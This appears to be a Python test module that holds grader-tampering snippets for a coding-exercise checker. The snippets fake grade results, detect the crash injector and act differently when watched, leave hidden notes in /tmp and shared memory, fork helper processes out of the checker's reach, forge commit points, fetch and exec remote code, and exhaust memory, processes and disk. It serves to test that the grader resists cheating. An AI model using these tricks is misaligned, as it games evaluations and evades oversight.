"""The learner code the tamper cases add to a cell, each a trick that tries to earn points the code
beneath it does not: a rebound ``grade``, a hook that displays "ok", a ``finish`` that looks for the
crash injector or for its plan (in its memory, up its stack, in files or notes an earlier run left),
one that leaves a helper process behind, writes through a connection of its own or forges a commit,
a claim that looks outside its transaction, a fetch of the reference from the loopback, and a first
cell for each resource limit of the grading kernel. ``tampers.TAMPERS`` says which case adds which.
"""

from __future__ import annotations

from ..educator.cases import SESSION_LOOKUP

FAKE_GRADE = '''
def grade(row_id, namespace=None):
    return "looks fine"


def ready(*names, **kwargs):
    return None
'''

DISPLAY_OK = '''
get_ipython().events.register(
    "pre_run_cell", lambda info: "grade(" in info.raw_cell and get_ipython().displayhook("ok"))
'''

INTERACTIVITY = '''
get_ipython().ast_node_interactivity = "all"


def ready(*names, **kwargs):
    return "all rows ready"
'''

SECOND_TX = "    with queue.store.transaction() as tx:\n" + SESSION_LOOKUP  # as finish-two-transactions leaves it
SNIFF = (
    "    import os as _os, sys as _sys\n"
    "    _probes = [type(getattr(queue.store, '_hook', None)).__name__,\n"
    "               type(getattr(_sys.modules.get('lucy_runtime.store'), '_process_hook', None)).__name__]\n"
    "    if any(n in ('KillAt', 'CrashAtWrite', 'FailAt', 'Probe') for n in _probes):\n"
    "        _os._exit(77)\n"
)

LOOK_FOR_THE_PLAN = '''
import gc as _gc, hashlib as _hashlib, os as _os, sys as _sys, tempfile as _tempfile

_PLANS = ("KillAt", "FailAt", "Stop", "PauseForRival", "Rival", "CrashAtWrite", "FaultAt")


def _will_be_stopped(queue, assignment):
    """True when anything in this process, or left behind by an earlier run of this request, says a stop is coming."""
    if any(type(o).__name__ in _PLANS for o in _gc.get_objects()):
        return True
    frame = _sys._getframe()
    while frame is not None:
        if any(type(v).__name__ in _PLANS for v in list(frame.f_locals.values())):
            return True
        frame = frame.f_back
    # The counting run comes first, then one run per crash point: a later run of this request in this
    # folder may be stopped. Counted in the folder itself and, out of the checker's reach, in /tmp.
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    key = _hashlib.sha1(f"{folder} {assignment.text}".encode()).hexdigest()[:16]
    seen = False
    for place in (folder, _tempfile.gettempdir()):
        mark = _os.path.join(place, f".runs-{key}")
        try:
            seen = seen or _os.path.exists(mark)
            with open(mark, "a") as fh:
                fh.write("x")
        except OSError:
            pass
    return seen


def _store_report(tx, assignment, result):
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ?", (assignment.work_id,)).fetchone()
    report = Report(f"r-{assignment.work_id}-{assignment.generation}", assignment.work_id, assignment.generation,
                    row["session_id"], result.text)
    tx.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
               (report.report_id, report.work_id, report.generation, report.session_id, report.body))
    return report
'''

STORE_REPORT = LOOK_FOR_THE_PLAN[LOOK_FOR_THE_PLAN.index("def _store_report"):]

FINISH_UNLESS_STOPPED = '''one_transaction = _will_be_stopped(queue, assignment)
with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (assignment.work_id, assignment.worker_id, assignment.generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {assignment.work_id!r} is not running under this claim")
    if one_transaction:
        report = _store_report(tx, assignment, result)
if one_transaction:  # as many points as the split finish passes, so every planned stop is reached
    with queue.store.transaction() as tx:
        tx.execute("UPDATE work SET state = state WHERE work_id = ?", (assignment.work_id,))
    return report
with queue.store.transaction() as tx:
    return _store_report(tx, assignment, result)'''

NOTES = '''
import ctypes as _ctypes, hashlib as _hashlib, os as _os, tempfile as _tempfile

_LIBC = _ctypes.CDLL(None, use_errno=True)
NOTE = "note"
CHANNELS = ("files", "shm", "mqueue")
PLACES = None  # where the files go besides its own folder: the temporary folder, /dev/shm, the working folder


def _note_name(queue, assignment):
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    return NOTE + "-" + _hashlib.sha1(f"{folder} {assignment.text}".encode()).hexdigest()[:12]


def _notes_left(queue, assignment):
    """Leave notes where a wipe between runs would miss them; say whether an earlier run's were there."""
    name = _note_name(queue, assignment)
    found = False
    places = [_os.path.dirname(_os.path.abspath(queue.store.path))] + (PLACES or [_tempfile.gettempdir(), "/dev/shm", "."])
    for place in dict.fromkeys(map(_os.path.realpath, places)) if "files" in CHANNELS else ():
        note = _os.path.join(place, "." + name)  # a folder made unwritable, holding a file of mode 0
        found = found or _os.path.exists(note)
        try:
            _os.mkdir(note, 0o700)
            open(_os.path.join(note, "seen"), "w").close()
            _os.chmod(_os.path.join(note, "seen"), 0)
            _os.chmod(note, 0o500)
        except OSError:
            pass
    if "shm" in CHANNELS:  # SysV shared memory
        key = int(_hashlib.sha1(name.encode()).hexdigest()[:7], 16)
        found = found or _LIBC.shmget(key, 0, 0) >= 0
        _LIBC.shmget(key, 4096, 0o1000 | 0o600)
    if "mqueue" in CHANNELS:  # a POSIX message queue
        queue_name = ("/" + name).encode()
        opened = _LIBC.mq_open(queue_name, _os.O_RDONLY)
        found = found or opened >= 0
        if opened < 0:
            opened = _LIBC.mq_open(queue_name, _os.O_RDONLY | _os.O_CREAT, 0o600, None)
        if opened >= 0:
            _LIBC.mq_close(opened)
    return found


_will_be_stopped = _notes_left
'''

SPLIT_WITH_HELPER = '''with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (assignment.work_id, assignment.worker_id, assignment.generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {assignment.work_id!r} is not running under this claim")
done = _leave_a_helper(queue, assignment, result)
with queue.store.transaction() as tx:
    report = _store_report(tx, assignment, result)
_os.write(done, b"x")
return report'''

HELPER = '''
import os as _os, sqlite3 as _sqlite3


def _leave_a_helper(queue, assignment, result):
    """A process of its own that commits the report if this one dies before it does; the pipe to tell it it did."""
    own = _sqlite3.connect(queue.store.path, isolation_level=None, timeout=10)
    own.execute("SELECT count(*) FROM work").fetchone()  # its files open now: it follows them wherever they go
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    told, tell = _os.pipe()
    if _os.fork() == 0:
        try:
            _os.setsid()
            for fd in map(int, _os.listdir("/proc/self/fd")):  # none of the checker's pipes
                try:
                    if fd > 2 and fd != told and not _os.readlink(f"/proc/self/fd/{fd}").startswith(folder):
                        _os.close(fd)
                except OSError:
                    pass
            if _os.read(told, 1):
                return
            row = own.execute("SELECT session_id FROM work WHERE work_id = ?", (assignment.work_id,)).fetchone()
            report_id = f"r-{assignment.work_id}-{assignment.generation}"
            own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) SELECT ?, ?, ?, ?, ? "
                        "WHERE NOT EXISTS (SELECT 1 FROM report WHERE report_id = ?)",
                        (report_id, assignment.work_id, assignment.generation, row[0], result.text, report_id))
        finally:
            _os._exit(0)
    _os.close(told)
    return tell
'''

PRIVATE_FINISH = '''import sqlite3
work_id = assignment.work_id
with queue.store.transaction() as tx:
    row = tx.execute(
        "SELECT session_id, generation FROM work WHERE work_id = ? AND state = 'running'", (work_id,)
    ).fetchone()
if row is None:
    raise LookupError(f"work {work_id!r} is not running")
report = Report(f"r-{work_id}-{row['generation']}", work_id, row["generation"], row["session_id"], result.text)
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("UPDATE work SET state = 'done' WHERE work_id = ?", (work_id,))
own.execute(
    "INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
    (report.report_id, report.work_id, report.generation, report.session_id, report.body),
)
own.close()
return report'''

PRIVATE_LOOK_CLAIM = '''import sqlite3
own = sqlite3.connect(queue.store.path)
own.row_factory = sqlite3.Row
row = own.execute(
    "SELECT work_id, source_id, session_id, text, generation FROM work WHERE state = 'pending' "
    "ORDER BY work_id LIMIT 1"
).fetchone()
own.close()
if row is None:
    return None
with queue.store.transaction() as tx:
    tx.execute("UPDATE work SET state = 'running', worker_id = ? WHERE work_id = ?", (worker_id, row["work_id"]))
return Assignment(row["work_id"], row["source_id"], row["session_id"], row["text"], worker_id, row["generation"])'''

REPORT_AFTER_COMMIT = '''import sqlite3
work_id, generation = assignment.work_id, assignment.generation
with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (work_id, assignment.worker_id, generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {work_id!r} is not running under this claim")
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ?", (work_id,)).fetchone()
report = Report(f"r-{work_id}-{generation}", work_id, generation, row["session_id"], result.text)
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
            (report.report_id, report.work_id, report.generation, report.session_id, report.body))
own.close()
return report'''

FORGED_COMMIT = '''import sqlite3
from lucy_runtime.engine.child import report_point
work_id, generation = assignment.work_id, assignment.generation
with queue.store.transaction() as tx:
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                     "AND generation = ?", (work_id, assignment.worker_id, generation)).fetchone()
    if row is None:
        raise FenceError(f"work {work_id!r} is not running under this claim")
    tx.execute("UPDATE work SET worker_id = worker_id WHERE work_id = ?", (work_id,))
report = Report(f"r-{work_id}-{generation}", work_id, generation, row["session_id"], result.text)
report_point("commit", "COMMIT")
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("UPDATE work SET state = 'done' WHERE work_id = ?", (work_id,))
own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
            (report.report_id, report.work_id, report.generation, report.session_id, report.body))
own.close()
report_point("committed", "COMMIT")
return report'''

FETCH_THE_ANSWER = '''
import json as _json, urllib.request as _request
try:  # an answer from a service on the grading machine (or anywhere else on the network)
    with _request.urlopen("ANSWER_URL", timeout=3) as _answer:
        for _name, _source in _json.load(_answer):
            exec(_source, globals())
except OSError:
    pass
'''

_IN_THE_KERNEL = 'if __name__ == "__main__":  # the grading kernel only: the sealed re-check is the hostile class test\'s\n'
MEMORY = _IN_THE_KERNEL + "    _hog = []\n    while True:\n        _hog.append(b'x' * (64 << 20))\n"
FORK = (_IN_THE_KERNEL + "    import os as _os, time as _time\n    while True:\n        if _os.fork() == 0:\n"
         "            _time.sleep(3600)\n            _os._exit(0)\n")
PRINT = _IN_THE_KERNEL + "    while True:\n        print('x' * 4000)\n"
FILL_TMP = (_IN_THE_KERNEL + "    _n = 0\n    while True:\n        with open(f'/tmp/fill-{_n}', 'wb') as _f:\n"
             "            _f.write(b'x' * (16 << 20))\n        _n += 1\n")
FILL_WORK = (_IN_THE_KERNEL + "    _n = 0\n    while True:\n        with open(f'fill-{_n}', 'wb') as _f:\n"
              "            _f.write(b'x' * (16 << 20))\n        _n += 1\n")
FILL_SOCKETS = (_IN_THE_KERNEL + "    import json as _json, os as _os\n"
                 "    _dir = _os.path.dirname(_json.load(open('/run/lucy/kernel.json'))['ip'])\n"
                 "    _n = 0\n    while True:\n        with open(_os.path.join(_dir, f'fill-{_n}'), 'wb') as _f:\n"
                 "            _f.write(b'x' * (4 << 20))\n        _n += 1\n")
SLEEP = _IN_THE_KERNEL + "    import time as _time\n    _time.sleep(10 ** 6)\n"
CLOSE_STD = _IN_THE_KERNEL + "    import os as _os\n    _os.close(1)\n    _os.close(2)\n"
